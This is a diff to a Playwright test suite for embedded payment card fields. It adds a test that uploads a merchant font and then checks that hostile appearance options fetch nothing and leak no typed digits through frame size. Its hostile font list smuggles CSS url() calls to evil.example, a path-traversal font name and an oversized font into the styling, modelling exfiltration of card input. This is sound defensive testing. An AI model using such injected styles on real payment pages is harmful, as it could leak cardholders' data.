@@ -1,5 +1,8 @@
+import { readFile } from 'node:fs/promises';
+import { createRequire } from 'node:module';
 import type { Page } from '@playwright/test';
 import { expect, test } from '../../fixtures/test.ts';
+import { frameSizes } from '../../support/frame-sizes.ts';
 
 const KINDS = ['card-number', 'card-cvc'];
 
@@ -33,25 +36,67 @@ test('no look that a page asks for makes a request, or changes a size by what is
   const requests = requestsOf(page);
   for (const appearance of HOSTILE) await fields.update({ appearance });
   const number = fields.frame('card-number').getByLabel('Card number');
-  const sizes = () =>
-    page.evaluate(() =>
-      Array.from(document.querySelectorAll('iframe'), (frame) => JSON.stringify(frame.getBoundingClientRect())),
-    );
-  const inner = () =>
-    number.evaluate(() => [
-      innerWidth,
-      innerHeight,
-      document.documentElement.scrollWidth,
-      document.documentElement.scrollHeight,
-    ]);
-  const [before, innerBefore] = [await sizes(), await inner()];
+  const before = await frameSizes(number);
   for (const digit of '4242424242424241') {
     await number.press(digit);
-    expect(await sizes()).toEqual(before);
-    expect(await inner()).toEqual(innerBefore);
+    expect(await frameSizes(number)).toBe(before);
   }
   await expect(number).toHaveAttribute('aria-invalid', 'true');
   expect(requests).toEqual([]);
+});
+
+const FONT = createRequire(import.meta.url).resolve('@fontsource/space-mono/files/space-mono-latin-400-normal.woff2');
+
+/** Ways to have a font tell what is typed: a face of the page's own, a part of one, another file for another digit, another size. */
+const hostileFonts = (family: string): object[] => [
+  { fontFamily: `'${family}', url(https://evil.example/h)` },
+  { fontFamily: `'${family}'; src: url(https://evil.example/i); unicode-range: U+34` },
+  { fontFamily: `'${family}', 'Not Uploaded', local(Evil)` },
+  { fontFamily: `'../${family}', '${family}.woff2?4'` },
+  { rules: { '@font-face': { src: 'url(https://evil.example/j)' } } },
+  { rules: { input: { font: `400 99px '${family}'` } } },
+  { rules: { input: { 'font-family': `x, url(https://evil.example/k)` } } },
+];
+
+test('a merchant’s own font is fetched before the first key; what a page then says of fonts fetches nothing, and no digit changes a size', async ({
+  api,
+  fieldsPage,
+  newWindow,
+  stack,
+}) => {
+  const family = `Hostile ${crypto.randomUUID().slice(0, 8)}`;
+  const data = (await readFile(FONT)).toString('base64');
+  const owner = await api.asOwner();
+  const uploaded = await api.call<{ id: string }>('POST', '/fonts', {
+    ...owner,
+    body: { family, weight: 400, style: 'normal', data },
+  });
+  expect(uploaded.status, uploaded.text).toBe(201);
+  try {
+    // A field document is remembered for ten seconds by its server.
+    await expect(async () => {
+      const page = await newWindow();
+      const fetched = requestsOf(page);
+      const options = { appearance: { fontFamily: `'${family}', monospace` } };
+      const fields = await fieldsPage({ kinds: KINDS, options }, {}, page);
+      const number = fields.frame('card-number').getByLabel('Card number');
+      const loaded = () => number.evaluate(() => [...document.fonts].map(({ status }) => status));
+      await expect.poll(loaded, { timeout: 3_000 }).toEqual(['loaded']);
+      expect(fetched.filter((url) => url.startsWith(`${stack.fields}/fields/v1/fonts/`))).not.toEqual([]);
+      const requests = requestsOf(page);
+      for (const appearance of hostileFonts(family)) await fields.update({ appearance });
+      const before = await frameSizes(number);
+      for (const digit of '4242424242424241') {
+        await number.press(digit);
+        expect(await frameSizes(number)).toBe(before);
+      }
+      expect(await number.evaluate((input) => getComputedStyle(input).fontSize)).not.toBe('99px');
+      expect(await loaded()).toEqual(['loaded']);
+      expect(requests).toEqual([]);
+    }).toPass({ timeout: 60_000 });
+  } finally {
+    await api.call('DELETE', `/fonts/${uploaded.body.id}`, owner);
+  }
 });
 
 test('themes, variables and rules reach a field while it stands', async ({ fieldsPage, newWindow }) => {
